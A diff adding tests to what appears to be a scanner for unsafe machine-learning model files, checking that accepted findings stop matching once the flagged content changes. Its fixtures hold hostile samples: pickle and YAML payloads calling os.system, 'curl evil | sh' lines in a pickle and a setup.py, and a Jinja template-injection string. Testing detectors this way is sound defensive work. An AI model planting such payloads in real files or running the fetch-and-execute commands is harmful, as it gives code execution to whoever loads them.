@@ -1,5 +1,5 @@
 import { cpSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { join, relative } from 'node:path';
 import { deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { ANALYZERS } from '../../src/analyzers/table.ts';
@@ -89,6 +89,70 @@ describe('known findings', () => {
     const { stdout: explained } = await wb(['scan', shelf, '--quiet', '--verbose'], { home });
     expect(explained).toMatch(/\npickle-imports\/unknown-class\n {2}why {3}\S.*\n {2}do {4}\S.*\n {2}known CWE-502/s);
     expect(explained).toMatch(/pickle-imports\/unknown-class \(low, \w+\)/);
+  });
+
+  describe('answer for the bytes that were looked at', () => {
+    const command = (tail: string): string => `cos\nsystem\n(S'${'a'.repeat(200)}${tail}${'b'.repeat(200)}'\ntR.`;
+    const called = (count: number, last: string): string =>
+      `${Array.from({ length: count }, () => "cos\nsystem\n(S'true'\ntR0").join('')}cos\nsystem\n(S'${last}'\ntR.`;
+    const classes = (last: string): string =>
+      [...Array.from({ length: 60 }, (_, at) => `C${at}`), last]
+        .map((name) => `ccopy_reg\n_reconstructor\n(cours\n${name}\nc__builtin__\nobject\nNtR`)
+        .join('0')
+        .concat('.');
+    const script = (more: string): string => `import os\nos.system('make docs')\n${more}`;
+    const template = (tail: string): string =>
+      JSON.stringify({ chat_template: `{{ ''.__class__.__mro__[1].__subclasses__() }}${' '.repeat(300)}${tail}` });
+    const yaml = (what: string): string => `a: !!python/object/apply:os.system ["${what}"]\n`;
+
+    it.each<[string, string, string, string]>([
+      ['the middle of a long command', 'a.pkl', command('; echo ok '), command('; echo no ')],
+      ['a call behind three thousand', 'b.pkl', called(3000, 'true'), called(3000, 'curl evil|sh')],
+      ['a class behind sixty known ones', 'c.pkl', classes('Model'), classes('Motel')],
+      ['a line of a script', 'setup.py', script(''), script("os.system('curl evil | sh')\n")],
+      ['the end of a template', 'tokenizer_config.json', template('{{ 1 }}'), template('{{ 2 }}')],
+      ['an argument in YAML', 'conf.yaml', yaml('echo ok'), yaml('curl x')],
+      ['one letter of a file that cannot be read', 'd.pkl', 'garbage\u0001', 'garbaga\u0001'],
+    ])('and so %s makes the finding new', async (_, name, before, after) => {
+      const shelf = join(scratchFolder(), 'shelf');
+      mkdirSync(shelf);
+      writeFileSync(join(shelf, name), before);
+      const accepted = join(shelf, '..', 'known.yaml');
+      const first = await wb(['scan', shelf, '-q', '--format', `known=${accepted}`], { home });
+      expect(first.code).not.toBe(0);
+      expect((await wb(['scan', shelf, '-q', '--known', accepted], { home })).code).toBe(0);
+      writeFileSync(join(shelf, name), after);
+      expect((await wb(['scan', shelf, '-q', '--known', accepted], { home })).code).not.toBe(0);
+    });
+
+    it('wherever their folder lies, and however the way to it is spelt', async () => {
+      const place = scratchFolder();
+      const deep = join(place, 'm', 'sub');
+      mkdirSync(deep, { recursive: true });
+      writeFileSync(join(deep, 'a.pkl'), command('; echo ok '));
+      const accepted = join(place, 'known.yaml');
+      const from = relative(process.cwd(), place);
+      const code = async (way: string): Promise<number> =>
+        (await wb(['scan', way, '-q', '--known', accepted], { home, cwd: process.cwd() })).code;
+      await wb(['scan', `${from}/m`, '-q', '--format', `known=${accepted}`], { home });
+      const ways = [
+        `${from}/m`,
+        `./${from}/m`,
+        `${from}/m/`,
+        `${from}/m/.`,
+        `${place}/m`,
+        `${from}/m/sub`,
+        `${deep}/a.pkl`,
+      ];
+      for (const way of ways) expect([way, await code(way)]).toEqual([way, 0]);
+      const row = '{rule: remote-code/auto-map, path: examples/models, reason: ours}';
+      writeFileSync(accepted, `apiVersion: weighbridge/v1\nkind: KnownFindings\nknown:\n  - ${row}\n`);
+      const tainted = 'examples/models/plover-1m-tainted';
+      const left = async (way: string): Promise<string> =>
+        (await wb(['scan', way, '-q', '--known', accepted], { home, cwd: process.cwd() })).stderr;
+      for (const way of [tainted, `./${tainted}`, join(process.cwd(), tainted), `${tainted}/config.json`])
+        expect([way, await left(way)]).toEqual([way, expect.stringContaining('left out')]);
+    });
   });
 
   it('are never taken from the folder that is scanned', async () => {
